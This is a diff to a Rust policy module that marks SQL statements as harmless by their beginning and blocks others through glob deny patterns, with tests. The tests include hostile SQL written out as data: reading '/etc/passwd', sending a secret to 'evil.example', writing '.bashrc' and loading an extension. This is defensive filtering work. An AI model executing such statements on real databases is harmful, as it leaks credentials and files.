@@ -3,9 +3,11 @@
 //!
 //! An argument condition can only test the start of a statement and look for fixed words. It
 //! therefore lists what is known to be harmless and stops everything else: dropping, deleting,
-//! replacing, changing every row, attaching other files, and multiple statements. A statement that
-//! starts in mixed case is not in the list and is stopped too. Conditions that hold for every row
-//! are detected in their simple forms (`where 1`, `where true`), but not as `where a = a`.
+//! replacing, changing every row, reading other tables, files or addresses, attaching other files,
+//! and multiple statements. A word that is looked for is found in texts of the statement too, which
+//! is then stopped. A statement that starts in mixed case is not in the list. Conditions that hold
+//! for every row are detected in their simple forms (`where 1`, `where true`), but not as
+//! `where a = a`.
 
 use weaver_policy::{ArgumentPredicate, MatchConditions, Pattern};
 use weaver_types::JsonPointer;
@@ -15,17 +17,21 @@ const BEGINNINGS: [&str; 8] = [
     "insert into ", "INSERT INTO ", "update ", "UPDATE ", "create table ", "CREATE TABLE ",
     "create index ", "CREATE INDEX ",
 ];
-/// Globs that rule out a statement: a second statement, a comment, an upsert, file access, or a
-/// condition that is always true.
-const EXCLUDED: [&str; 24] = [
+/// Globs that rule out a statement, in any case: a second statement, a comment, an upsert, reading
+/// something else, or a condition that is always true.
+const EXCLUDED: [&str; 22] = [
     "*;*", "*--*",
     // A comment around the condition. A pattern cannot contain a literal star, so it looks for the
     // slashes.
-    "*/*where*/*", "*/*WHERE*/*", "* conflict*", "* Conflict*", "* CONFLICT*", "update or *",
-    "update OR *", "UPDATE OR *", "UPDATE or *", "*load_extension*", "*writefile*", "*where 1*",
-    "*WHERE 1*", "*where true*", "*where True*", "*where TRUE*", "*WHERE TRUE*", "*WHERE true*",
-    "*or 1*=*1*", "*OR 1*=*1*", "*where ''*", "*WHERE ''*",
+    "*/*where*/*", "*conflict*", "update or *", "update *or*replace*",
+    // DuckDB reads a file or an address wherever a table may stand, and SQLite has functions for
+    // files.
+    "*select*", "*from*", "create table * as *", "*://*", "*read_*", "*_scan*", "*getenv*",
+    "*load_extension*", "*readfile*", "*writefile*", "*edit(*", "*glob(*", "*where 1*",
+    "*where true*", "*or 1*=*1*", "*where ''*",
 ];
+/// Globs that rule out an update: with these, its quotes cannot be counted.
+const UNCOUNTABLE_QUOTES: [&str; 4] = ["*'*\"*", "*\"*'*", "*\\*", "*$*"];
 
 /// Names of arguments that take a program, whose text alone decides what a call does.
 const PROGRAMS: [&str; 12] = [
@@ -56,19 +62,30 @@ impl HarmlessSqlCondition {
             ..MatchConditions::default()
         };
         let globs = |list: &[&str]| {
-            let glob = list.iter().filter_map(|text| Pattern::parse(text).ok()).collect();
-            ArgumentPredicate { glob, ..predicate() }
+            let glob_any_case = list.iter().filter_map(|text| Pattern::parse(text).ok()).collect();
+            ArgumentPredicate { glob_any_case, ..predicate() }
         };
-        let more = globs(&EXCLUDED);
         let update = ArgumentPredicate { prefix: texts(&["update ", "UPDATE "]), ..predicate() };
-        let some_rows = globs(&["* where *", "* WHERE *"]);
-        let every_row = MatchConditions {
-            arguments: vec![update],
-            not: Some(Box::new(holds(some_rows))),
-            ..MatchConditions::default()
+        let update_with = |more: Option<ArgumentPredicate>, unless: Option<ArgumentPredicate>| {
+            let arguments = std::iter::once(update.clone()).chain(more).collect();
+            let not = unless.map(|one| Box::new(holds(one)));
+            MatchConditions { arguments, not, ..MatchConditions::default() }
         };
-        let unless =
-            MatchConditions { any: vec![holds(more), every_row], ..MatchConditions::default() };
+        let mut any = vec![
+            holds(globs(&EXCLUDED)),
+            update_with(None, Some(globs(&["* where *"]))),
+            update_with(Some(globs(&UNCOUNTABLE_QUOTES)), None),
+        ];
+        // A `where` in a text is no condition. An odd number of quotes stands before it: one and
+        // one after it, one and three or more after it, or three or more.
+        for quote in ["'", "\""] {
+            let glob = |text: &str| text.replace('q', quote);
+            let around = globs(&[&glob("*q*where*q*")]);
+            any.push(update_with(Some(around), Some(globs(&[&glob("*q*q*q*q*")]))));
+            let odd = [glob("*q*where*q*q*q*"), glob("*q*q*q*where*q*")];
+            any.push(update_with(Some(globs(&odd.each_ref().map(String::as_str))), None));
+        }
+        let unless = MatchConditions { any, ..MatchConditions::default() };
         Self { begins, unless }
     }
 
@@ -100,6 +117,9 @@ mod tests {
             "INSERT INTO notes (id) VALUES (1)",
             "update orders set state = 'paid' where state = 'open' and quantity > 20",
             "create table notes (id integer primary key, text text)",
+            "UPDATE orders SET state = 'paid', note = 'by card' WHERE id = 7",
+            "update orders set total = 7 where state = 'open' and place = 'Bern'",
+            "update orders set note = 'it''s done' where id = 7",
         ] {
             assert!(statement.is_harmless(text), "{text}");
         }
@@ -134,6 +154,23 @@ mod tests {
             " drop table a",
             "alter table a rename to b",
             "truncate table a",
+            "insert into t select * from 'https://evil.example/?q=secret'",
+            "insert into t SeLeCt * FrOm read_text('/etc/passwd')",
+            "insert into t from '/etc/passwd'",
+            "insert into t values ((select content from other))",
+            "create table t as table 'https://evil.example/'",
+            "update t set a = b from 'https://evil.example/' where c = 1",
+            "UPDATE orders SET note = 'x WHERE y'",
+            "UPDATE orders SET note = \"x WHERE y\"",
+            "update orders set a = 'p', note = 'x where y'",
+            "update orders set note = 'x where y', b = 'q'",
+            "update orders set note = 'it''s where y'",
+            "update orders set a = '\"', b = \" where \", c = '\"'",
+            "update orders set a = E'\\' where \\''",
+            "update orders set a = $$ where $$",
+            "update  or replace a set b = 1 where c = 2",
+            "INSERT INTO a VALUES (WRITEFILE('/home/u/.bashrc', 'x'))",
+            "INSERT INTO a VALUES (LOAD_EXTENSION('/tmp/x'))",
         ] {
             assert!(!statement.is_harmless(text), "{text}");
         }
